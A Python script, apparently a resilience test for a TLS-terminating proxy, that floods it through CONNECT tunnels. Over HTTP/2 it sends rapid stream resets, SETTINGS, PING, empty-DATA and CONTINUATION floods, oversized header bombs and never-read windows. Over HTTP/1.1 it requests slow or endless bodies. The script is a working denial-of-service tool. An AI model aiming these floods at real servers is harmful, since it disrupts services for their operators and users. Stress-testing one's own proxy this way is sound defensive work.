# SPDX-License-Identifier: Apache-2.0
"""Attacks TLS that the proxy ends: `floods.py HOST THREADS`, runs in the guest.

Each thread opens connections to the host of a secret through the proxy and sends, in turn, floods
of HTTP/2 frames that carry nothing, requests that it resets, windows that it opens and answers that
it never reads; or it asks over HTTP/1.1 for answers without an end. Without threads it asks once
over both, and fails if it gets no answer.
"""

from __future__ import annotations

import contextlib
import itertools
import socket
import ssl
import sys
import threading
import time

PROXY = ("127.0.0.1", 3128)
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
SECONDS = 5.0
DATA, HEADERS, RESET, SETTINGS, PING, WINDOW, CONTINUATION = 0, 1, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
PATHS = ("gzip", "interim", "heads", "slow", "body")
KINDS = ("resets", "settings", "pings", "empty", "continuations", "bombs", "unread", *PATHS)


def frame(kind: int, flags: int, stream: int, body: bytes = b"") -> bytes:
    return len(body).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + body


def request(host: str) -> bytes:
    """Return the compressed head of a GET of `/`."""
    return b"\x82\x87\x84\x41" + bytes((len(host),)) + host.encode()


def connected(host: str, protocol: str) -> ssl.SSLSocket:
    line = socket.create_connection(PROXY, timeout=30)
    line.sendall(f"CONNECT {host}:443 HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    answer = b""
    while b"\r\n\r\n" not in answer:
        answer += line.recv(1)
    context = ssl.create_default_context()
    context.set_alpn_protocols([protocol])
    return context.wrap_socket(line, server_hostname=host)


def flood(line: ssl.SSLSocket, kind: str, host: str) -> None:
    settings = b"\0\4\x7f\xff\xff\xff" if kind == "unread" else b""
    line.sendall(PREFACE + frame(SETTINGS, 0, 0, settings))
    head, until = request(host), time.monotonic() + SECONDS
    if kind == "continuations":
        line.sendall(frame(HEADERS, 0, 1, head))
    if kind == "unread":
        line.sendall(frame(WINDOW, 0, 0, b"\x7f\x00\x00\x00"))
    for stream in itertools.count(1, 2):
        if time.monotonic() > until:
            return
        line.sendall(
            {
                "resets": frame(HEADERS, 5, stream, head) + frame(RESET, 0, stream, bytes(4)),
                "settings": frame(SETTINGS, 0, 0) * 100,
                "pings": frame(PING, 0, 0, bytes(8)) * 100,
                "empty": frame(HEADERS, 4, stream, head) + frame(DATA, 0, stream) * 100,
                "continuations": frame(CONTINUATION, 0, 1, bytes((0x82,)) * 100),
                "bombs": frame(HEADERS, 5, stream, head + b"\x82" * 16000),
                "unread": frame(HEADERS, 5, stream, head) if stream < 64 else b"",
            }[kind]
        )
        if kind == "unread" and stream > 64:
            time.sleep(0.5)


def ask(line: ssl.SSLSocket, path: str, host: str) -> None:
    line.sendall(f"GET /{path} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
    until = time.monotonic() + SECONDS
    while time.monotonic() < until and line.recv(1 << 16):
        pass


def attack(host: str, first: int) -> None:
    for number in itertools.count(first):
        kind = KINDS[number % len(KINDS)]
        protocol, act = ("http/1.1", ask) if kind in PATHS else ("h2", flood)
        with contextlib.suppress(OSError), connected(host, protocol) as line:
            act(line, kind, host)
        time.sleep(0.02)


def visit(host: str) -> None:
    """Ask once over each protocol: the proxy then has what it keeps for all environments."""
    heads = PREFACE + frame(SETTINGS, 0, 0) + frame(HEADERS, 5, 1, request(host))
    with connected(host, "h2") as line:
        line.sendall(heads)
        line.recv(1)
    with connected(host, "http/1.1") as line:
        line.sendall(f"GET /slow HTTP/1.1\r\nHost: {host}\r\n\r\n".encode())
        line.recv(1)


def main(host: str, threads: int) -> None:
    if not threads:
        visit(host)
    for number in range(threads):
        threading.Thread(target=attack, args=(host, number)).start()


if __name__ == "__main__":
    main(sys.argv[1], int(sys.argv[2]))
